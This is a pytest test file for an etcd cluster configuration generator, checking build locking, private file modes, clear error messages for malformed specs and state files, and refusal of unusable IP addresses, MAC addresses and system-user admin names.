def test_a_second_build_is_refused_while_one_runs(workdir: Path) -> None:
    """While a build holds the cluster's lock, another exits 1 with a clear message and writes nothing."""
    assert build(workdir)[0] == 0
    root = workdir / "out" / "demo"
    fd = os.open(root, os.O_RDONLY | os.O_DIRECTORY)
    try:
        fcntl.flock(fd, fcntl.LOCK_EX)
        code, _, err = build(workdir)
        assert code == 1 and "another etcd-seed run is using this directory" in err
    finally:
        os.close(fd)


def test_concurrent_builds_never_mix_two_cas(workdir: Path) -> None:
    """Two builds started together on an empty --out leave one consistent tree."""
    for attempt in range(3):
        out = f"race{attempt}"
        procs = [subprocess.Popen([sys.executable, "-m", "generator", "build", "--spec", "cluster.yaml", "--out", out],
                                  cwd=workdir, env={**os.environ, "PYTHONPATH": str(ROOT)}, stdout=subprocess.PIPE,
                                  stderr=subprocess.PIPE, text=True) for _ in range(2)]
        results = [p.communicate(timeout=120) for p in procs]
        codes = sorted(p.returncode for p in procs)
        assert codes in ([0, 0], [0, 1]), results
        code, _, err = run("verify", "--spec", str(workdir / "cluster.yaml"), "--out", str(workdir / out))
        assert code == 0, err


def test_umask_000_still_gives_private_modes(workdir: Path) -> None:
    """Directories get explicit modes: no world-writable output even under umask 000."""
    old = os.umask(0)
    try:
        assert build(workdir)[0] == 0
    finally:
        os.umask(old)
    root = workdir / "out" / "demo"
    modes = {p.relative_to(root).as_posix(): p.stat().st_mode & 0o777 for p in [root, *root.rglob("*")]}
    assert modes["pki"] == 0o700 and modes["."] == 0o755 and modes["etcd01"] == 0o755
    assert not [p for p, m in modes.items() if m & 0o022]
    assert tree(root) == {p: m for p, m in tree(root).items()}  # files keep their declared 0600/0644
    assert all(m == 0o600 for p, m in tree(root).items() if p in SECRETS)


@pytest.mark.parametrize(("edit", "field"), [
    (lambda t: t.replace("name: demo", "name: " + "d" * 60), "cluster.name"),
    (lambda t: t.replace("cluster: {", "cluster: {[1, 2]: x, "), "cluster.yaml"),
    (lambda t: "x: " + "[" * 200 + "]" * 200 + "\n" + t, "cluster.yaml"),
], ids=["long-cluster-name", "unhashable-key", "deep-nesting"])
def test_odd_specs_get_an_error_line(workdir: Path, edit: object, field: str) -> None:
    """Each of these ended in 'internal error' before; now each is an error: line naming where."""
    spec = workdir / "cluster.yaml"
    spec.write_text(edit(spec.read_text()))  # type: ignore[operator]
    done = _cli(workdir, "build", "--spec", "cluster.yaml", "--out", "out")
    assert done.returncode == 1 and done.stderr.startswith(f"error: {field}"), done.stderr
    assert "internal error" not in done.stderr and not (workdir / "out").exists()


@pytest.mark.parametrize(("target", "damage", "expected"), [
    ("manifest.json", lambda d: d["files"].update({"pki/ca.crt": "x"}), "manifest.json: files.pki/ca.crt: must be"),
    ("manifest.json", lambda d: d["files"]["pki/ca.crt"].update({"sha256": ["x"]}),
     "manifest.json: files.pki/ca.crt.sha256"),
    ("manifest.json", lambda d: d.update({"files": []}), "manifest.json: files: must be an object"),
    ("pki/sealed.json", lambda d: d.update({"etcd01.key": {"key_sha256": 5}}),
     "pki/sealed.json: etcd01.key.key_sha256"),
], ids=["entry-not-object", "sha-not-string", "files-not-object", "sealed-entry"])
def test_malformed_state_files_get_an_error_line(workdir: Path, target: str, damage: object, expected: str) -> None:
    """Damaged manifest or sealed.json entries are named, not a crash."""
    assert build(workdir)[0] == 0
    root = workdir / "out" / "demo"
    path = root / target
    document = json.loads(path.read_text()) if path.exists() else {}
    damage(document)  # type: ignore[operator]
    path.write_text(json.dumps(document))
    command = ["seal", "--recipient", "age1" + "q" * 58] if target.endswith("sealed.json") else ["build"]
    done = _cli(workdir, *command, "--spec", "cluster.yaml", "--out", "out")
    assert done.returncode == 1 and f"error: {expected}" in done.stderr, done.stderr
    assert "internal error" not in done.stderr


def test_huge_source_date_epoch_writes_nothing(workdir: Path) -> None:
    """An epoch no ISO can hold is refused before a single file is written."""
    done = _cli(workdir, "build", "--spec", "cluster.yaml", "--out", "out", env={"SOURCE_DATE_EPOCH": "99999999999"})
    assert done.returncode == 1 and "SOURCE_DATE_EPOCH" in done.stderr and "internal error" not in done.stderr
    assert not (workdir / "out").exists()


# --- Smaller findings ----------------------------------------------------------------------------------


@pytest.mark.parametrize(("old", "new", "expected"), [
    ("ip: 192.168.0.1,", "ip: 127.0.0.1,", "nodes.0.ip: 127.0.0.1 is a loopback address"),
    ("ip: 192.168.0.1,", "ip: 224.0.0.5,", "nodes.0.ip: 224.0.0.5 is a multicast address"),
    ("ip: 192.168.0.1,", "ip: 169.254.0.1,", "nodes.0.ip: 169.254.0.1 is a link-local address"),
    ("ip: 192.168.0.1,", "ip: 240.0.0.1,", "nodes.0.ip: 240.0.0.1 is a reserved address"),
    ('"52:54:00:00:00:02"', '"00:00:00:00:00:00"', "nodes.1.mac: '00:00:00:00:00:00' is the null MAC"),
    ("name: etcd02,", "name: etcd02, fqdn: etcd01.example.com.,", "nodes.1.fqdn: 'etcd01.example.com' is already used"),
    ("network: 10.2.0.0/16", "network: 192.168.0.0/16", "flannel.network: 192.168.0.0/16 overlaps the node network"),
], ids=["loopback", "multicast", "link-local", "reserved", "null-mac", "fqdn-trailing-dot", "flannel-overlap"])
def test_addresses_that_cannot_work_are_refused(workdir: Path, old: str, new: str, expected: str) -> None:
    set_spec(workdir, old, new)
    err = assert_refused(workdir, expected.split(":")[0])
    assert f"error: {expected}" in err, err


@pytest.mark.parametrize("user", ["root", "daemon", "etcd", "nobody", "sshd"])
def test_admin_name_cannot_be_a_system_user(workdir: Path, user: str) -> None:
    (workdir / "cluster.yaml").write_text((workdir / "cluster.yaml").read_text() + f"admin: {{name: {user}}}\n")
    assert_refused(workdir, "admin.name")


def test_etcdctl_env_template_errors_are_wrapped() -> None:
    """A broken etcdctl.env.j2 is reported as a template error, like every other template."""
    import jinja2

    from generator.errors import TemplateError
    from generator.render import make_environment, render_etcdctl_env
    from generator.spec import load_spec

    env = make_environment()
    env.loader = jinja2.DictLoader({"etcdctl.env.j2": "X={{ spec.nothing_here }}\n"})
    spec, _ = load_spec(spec_yaml(), base_dir=ROOT)
    with pytest.raises(TemplateError, match=r"templates/etcdctl\.env\.j2: .*nothing_here"):
        render_etcdctl_env(env, spec)


@pytest.mark.skipif(systemd_available() is not None, reason=str(systemd_available()))
def test_options_env_reads_the_same_in_systemd_and_sh(workdir: Path) -> None:
    """systemd's own parser and sh read every options.env into exactly the settings the build meant."""
    from generator import etcd
    from generator.spec import load_spec

    from .parsers import sh_env

    assert build(workdir)[0] == 0
    spec, _ = load_spec((workdir / "cluster.yaml").read_text(), base_dir=workdir)
    for node in spec.nodes:
        path = workdir / "out" / "demo" / node.name / "options.env"
        assert systemd_env(path) == etcd.options(spec, node)
        assert sh_env(path) == etcd.options(spec, node)


def test_unseal_refuses_a_key_without_manifest(workdir: Path, tmp_path: Path) -> None:
    """unseal needs the manifest that records the keys; without one it says so."""
    assert build(workdir)[0] == 0
    (workdir / "out" / "demo" / "manifest.json").unlink()
    code, _, err = run("unseal", "--spec", str(workdir / "cluster.yaml"), "--out", str(workdir / "out"),
                       "--identity", str(tmp_path / "none"))
    assert code == 1 and "manifest.json: missing" in err


def test_fake_bundle_fixture_is_a_release_layout() -> None:
    """The helper used above carries etcd and etcdctl, so a refusal above is the input's, not the fixture's."""
    from generator.etcd import check_release_tarball

    assert check_release_tarball(fake_bundle(), "3.5.1") is None
